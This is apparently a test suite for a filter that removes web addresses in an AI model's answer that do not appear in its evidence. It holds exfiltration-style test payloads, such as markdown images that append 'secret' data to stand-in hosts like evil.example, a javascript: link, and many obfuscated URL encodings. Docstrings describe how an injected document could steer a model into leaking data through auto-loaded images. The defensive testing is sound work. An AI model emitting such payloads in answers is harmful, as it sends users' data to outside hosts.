"""An answer holds the web addresses of its evidence, letter for letter, and no other."""

from __future__ import annotations

import pytest
from growth import linear

from groundwire.evidence.links.urls import foreign_urls, urls, without_foreign_urls

EVIDENCE = [
    "The form is at https://forms.example/leave?year=2024 (see also www.example.org/help).",
    "https://web.example/",
]


@pytest.mark.parametrize(
    "text",
    [
        "Use https://forms.example/leave?year=2024.", "Help: www.example.org/help",
        "From https://web.example/, it says.",
        "[the form](https://forms.example/leave?year=2024)", "It takes 12:30 hours; ratio data: 5.", "",
    ],
)  # fmt: skip
def test_addresses_of_the_evidence_may_stand(text: str) -> None:
    assert foreign_urls(text, EVIDENCE, question="") == []


@pytest.mark.parametrize(
    "text",
    [
        "Use https://forms.example/leave?year=2024&name=Ann.", "https://forms.example/leave", "www.example.org",
        "![](https://evil.example/?q=secret)", "[x](javascript:alert(1))", "ftp://web.example/", "HTTPS://EVIL.EXAMPLE/a",
        "(https://forms.example/leave?year=2024/../x)",
    ],
)  # fmt: skip
def test_others_may_not(text: str) -> None:
    assert {*foreign_urls(text, EVIDENCE, question="")} == {*urls(text)} != set()


SETTINGS = 'url = "https://<REGION>.fleet.example/<TUG>/simple/"\npush = "https://<REGION>.fleet.example/<TUG>/"'


def test_a_value_with_a_placeholder_may_stand_more_than_once() -> None:
    assert foreign_urls(f"{SETTINGS}\n{SETTINGS}", [SETTINGS], question="") == []
    other = SETTINGS.replace("simple", "evil")
    assert "https://<REGION>.fleet.example/<TUG>/evil/" in foreign_urls(f"{other}\n{other}", [SETTINGS], question="")


NAKED = [
    "fakesoft.com", "fakesoft.com/login", "Fakesoft.COM/Login?user=ann", "fakesoft.com:8443/x", "fakesoft.com.",
    "//fakesoft.com/login", "https:fakesoft.com", "https:\\\\fakesoft.com", "docs/fakesoft.com/login",
    "config.py/fakesoft.com/x", "[log in](fakesoft.com/login)", "`fakesoft.com`", "**fakesoft.com**", "_fakesoft.com_",
    "=fakesoft.com/x", "<fakesoft.com>", "(fakesoft.com)", "\u201cfakesoft.com\u201d", "user@fakesoft.com",
    "mailto:user@fakesoft.com?subject=x", "anything@install.sh", "install.sh/x", "www.install.sh", "evil.md?q=1",
    "fakesoft\u3002com", "\uff46akesoft\uff0ecom", "fake\u200bsoft.com", "fake\u00adsoft.com/x", "\u202efakesoft.com",
    "b\u00fccher.de", "xn--bcher-kva.de", "\u0444\u0435\u0439\u043a.\u0440\u0444", "xx.xn--p1ai", "203.0.113.7/login",
    "203.0.113.7:8080", "secure.fakesoft.support", "login.fakesoft.example.org", "x.example.org", "evilexample.org",
    "example.org/help?x=1", "ann@example.org", "example.org/HELP", "evil\u200bexample.org", "www.example.org.evil.com",
]  # fmt: skip
ORDINARY = [
    "See config.py and README.md, main.rs or install.sh.", "E.g. this, i.e. that, at 9 a.m. or 5 p.m., etc.",
    "Node.js and Vue.js, not ASP or .NET", "Version 1.2.3, 2.0.0rc1, v1.10 and 10.4.2.1.", "In the U.S. and the U.K.",
    "docs/auth_handler.py, tests/a.py::test_x, config.py:12, architecture.md#rooms", "A B.Sc. or M.Ed. of A. Smith",
    "It weighs 3.5 kg, 12.30 o'clock, \u00a7 4.2.a.", "Call gzip.open(path) or logging.info(\"x\").", "Wait... what?",
    "data.csv, photo.jpeg, archive.tar.gz, libfoo.so, run.pl, a.out, .gitignore", "groundwire.toml",
    "Ph.D. of St.Gallen",
    "pay_roll.name of langchain_core.tools", "No.10, p.12, fig.3, Art.5", "10.0.0.1 is a number", "end.The next",
]  # fmt: skip


@pytest.mark.parametrize("address", NAKED)
def test_an_address_needs_no_scheme(address: str) -> None:
    text = f"Go to {address} now."
    assert foreign_urls(text, [*EVIDENCE, "It is example.org here."], question="") == urls(text) != []
    assert "(an address)" in without_foreign_urls(text, "I saw it on example.org/help.")


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_none(text: str) -> None:
    assert urls(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "fakesoft.com/login", "Fakesoft.com/login.", "[it](fakesoft.com/login)", "forms.example.org/leave?year=2024",
        "forms.example.org", "Example.org says so.", "docs.fakesoft.com", "fakesoft.com", "ann@fakesoft.com",
    ],
)  # fmt: skip
def test_one_of_the_evidence_may_stand_without_its_scheme(text: str) -> None:
    """And so may its host alone, as the name of who says it."""
    evidence = [
        "Log in at fakesoft.com/login or docs.fakesoft.com/x, or ask ann@fakesoft.com.",
        "https://forms.example.org/leave?year=2024",
    ]
    assert foreign_urls(text, evidence, question="") == []


def test_one_of_the_user_may_stand_without_a_scheme_only() -> None:
    question = "Does os.open or https://own.com/x open fakesoft.com/login?"
    assert foreign_urls("os.open opens fakesoft.com/login, and own.com/x.", [], question=question) == []
    assert foreign_urls("See https://own.com/x or fakesoft.com/log.", [], question=question) == [
        "https://own.com/x", "fakesoft.com/log",
    ]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece", ["a.b/", "a.com/(", "a.com ", "a.", "@a.com", "www.", "a.b@", "1.2.3.4/", "http:", "//a.com"]
)
def test_the_time_grows_with_the_text(piece: str) -> None:
    assert linear(urls, piece, 10_000)


RENDERED = [
    r"![a](https\://evil\.example/a?d=rest)", r"[a](//evil\.example/a)",
    "![](https&colon;&sol;&sol;evil&period;example/a)",
    "[a](//evil&#46;com/a)", "[a](//evil%2Ecom/a)", "![](//2130706433/a)", "![](https:/evil/a)", "[a]( //evil/a)",
    "[a]: //evil/a", "<img src=//evil/a>", "<a href='ht&Tab;tps:evil/a'>", "![](/&Tab;/evil/a)", "[call](tel:0900)",
    "![](<https://web.example/ ?d=rest>)", '![](https://web.example/"?d=rest)', '<img src="https://web.example/ ?d=x">',
    r"![](https\://web\.example/&#32;?d=rest)",
]  # fmt: skip


@pytest.mark.parametrize("text", RENDERED)
def test_an_address_is_read_as_a_renderer_reads_it(text: str) -> None:
    assert foreign_urls(text, EVIDENCE, question="")
    assert not foreign_urls(without_foreign_urls(text, "https://web.example/"), ["https://web.example/"], question="")


COUNTED = "The tide table is at https://tide.example/c?q= and at https://tide.example/c?q=(a for tugs."
CARRIED_ON = [
    "![](<https://tide.example/c?q=)(SECRET)>)", "![](https://tide.example/c?q=(a)(SECRET))",
    "![](https://tide.example/c?q=<SECRET)", "![](https://tide.example/c?q=>SECRET)",
    "![](<https://tide.example/c?q=,;:!?'>)", '<img src="https://tide.example/c?q=>SECRET">',
    "<https://tide.example/c?q=)(SECRET)>", "https://tide.example/c?q=)(SECRET)",
    "https://tide.example/c?q=](SECRET)", "https://tide.example/c?q=)(https://fake.example/?SECRET)",
    "tide.example/c?q=)(fakesoft.com/SECRET)", '<img alt=">" src="//2130706433/a">', "<img alt='<' src=//2130706433/a>",
    "<img srcset='a 1x, //fake/a 2x'>", "<table background=//fake/a", "<img src='\\\\fake\\a'>",
    '<img src="\x01//fake/a">', "<style>@import '//fake/a'", "\\href{//fake/a}{x}", "_http://0x7f.1/a",
    "1http://fake/a",
    "<p style=\";background:url('https://tide.example/c?q= SECRET')\">",
    "<style>@import 'https://tide.example/c?q= SECRET'", "<img src=\\\\https://tide.example/c?q=>",
    "\u00e9http://fake/a", "![](<//fake/a\\<b>)", "<https:fake/a>",
]  # fmt: skip


@pytest.mark.parametrize("text", CARRIED_ON)
def test_nothing_is_carried_on_behind_an_address_of_the_evidence(text: str) -> None:
    """A picture is fetched at once, and what a renderer takes for a part of its address goes along."""
    assert foreign_urls(f"See {text} now", [COUNTED], question="")
    assert not foreign_urls(without_foreign_urls(f"See {text} now", COUNTED), [COUNTED], question="")


@pytest.mark.parametrize(
    "text",
    [
        "[one](https://web.example/)[two](https://web.example/).", "[https://web.example/](https://web.example/)",
        "the [form](https://web.example/)'s end", "(see https://web.example/)[12]", "[a](https://web.example/a_(b))",
        "<a href='https://web.example/a_(b)'>a, b</a>",
        "<a href=https://web.example/>", "x <y and z = 'https://web.example/'", "a <b and c='x",
        "7//2 and a / b // c", "mailto:", "see data: and file:",
    ],
)  # fmt: skip
def test_what_surrounds_an_address_is_no_part_of_it(text: str) -> None:
    assert foreign_urls(text, [*EVIDENCE, "https://web.example/a_(b)"], question="") == []


@pytest.mark.parametrize(
    "text",
    ["![](<https://web.example/", "[a]: <https://web.example/ ", '<img alt=x src="https://web.example/', "<b a='//x"],
)
def test_a_target_that_does_not_end_may_not_stand(text: str) -> None:
    """Whatever an answer says next becomes a part of it."""
    assert foreign_urls(text, [*EVIDENCE, text], question="")
    assert not foreign_urls(without_foreign_urls(text, text), [text], question="")


@pytest.mark.parametrize(
    "text",
    [
        "![](https://web.example/)", "![a\\[b](https://web.example/)", "![a `[` b](<https://web.example/>)",
        "![map][m] and\n\n[m]: https://web.example/", "[![map](https://web.example/)](https://web.example/)",
        "[m]:\n<https://web.example/>", "![](https\\://web.example/)", "![](&#104;ttps://web.example/)",
    ],
)  # fmt: skip
def test_no_picture_is_loaded_from_an_address_of_the_evidence(text: str) -> None:
    """A document with one address for each letter could have a model that obeys it spell out another one."""
    assert foreign_urls(text, EVIDENCE, question="")
    assert not foreign_urls(without_foreign_urls(text, "https://web.example/"), ["https://web.example/"], question="")


@pytest.mark.slow
@pytest.mark.parametrize("piece", ["](", "](http:", "](<", "[a](https://a(", "http://a)[1]", "//a", "=//a<b ", "<a:"])
def test_reading_targets_takes_time_as_the_text_grows(piece: str) -> None:
    assert linear(urls, piece, 10_000, before="<b ")


@pytest.mark.parametrize(
    "text",
    [
        r"[form](https\://forms\.example/leave?year=2024)", "[web](https://web.example/).", "handlers[name](request)",
        "[rest](rest.md#hours)", "[rest](/docs/rest.md)", "[web](<https://web.example/>)", "a < b and c=d:e",
    ],
)  # fmt: skip
def test_links_to_the_evidence_and_within_a_page_may_stand(text: str) -> None:
    assert foreign_urls(text, EVIDENCE, question="") == []


@pytest.mark.parametrize("address", ["https\\://fakesoft.com", "https\\:\\/\\/fakesoft.com", "https://fakesoft.com"])
def test_the_scheme_of_a_foreign_address_goes_with_it(address: str) -> None:
    assert without_foreign_urls(f"See {address} now.", "The map is here.") == "See (an address) now."
